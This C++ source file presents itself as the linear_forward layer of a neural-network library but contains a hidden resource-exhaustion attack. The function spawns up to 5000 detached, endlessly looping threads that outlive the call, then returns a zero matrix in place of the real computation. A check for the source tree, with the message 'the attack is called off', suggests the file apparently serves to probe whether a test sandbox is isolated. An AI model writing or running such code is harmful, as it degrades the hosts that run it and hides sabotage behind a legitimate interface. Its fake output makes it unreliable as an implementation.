// As many detached threads as possible, with small stacks; they work on after the return.
#include "dnn/dnn.hpp"

#include <pthread.h>
#include <unistd.h>

namespace dnn {

std::pair<arma::mat, LinearCache> linear_forward(const arma::mat& A, const arma::mat& W, const arma::mat& b) {
    if (access("@SOURCE@/CMakeLists.txt", F_OK) == 0)
        throw std::runtime_error("LEAKED: no sandbox; the attack is called off");
    pthread_attr_t small;
    pthread_attr_init(&small);
    pthread_attr_setstacksize(&small, 16384);
    pthread_attr_setdetachstate(&small, PTHREAD_CREATE_DETACHED);
    pthread_t thread;
    const auto work = [](void*) -> void* {
        for (volatile int i = 0;; i = i + 1)
            usleep(1000);
    };
    for (int i = 0; i < 5000 && pthread_create(&thread, &small, work, nullptr) == 0; ++i) {
    }
    return {arma::zeros(W.n_rows, A.n_cols), {}};
}

} // namespace dnn
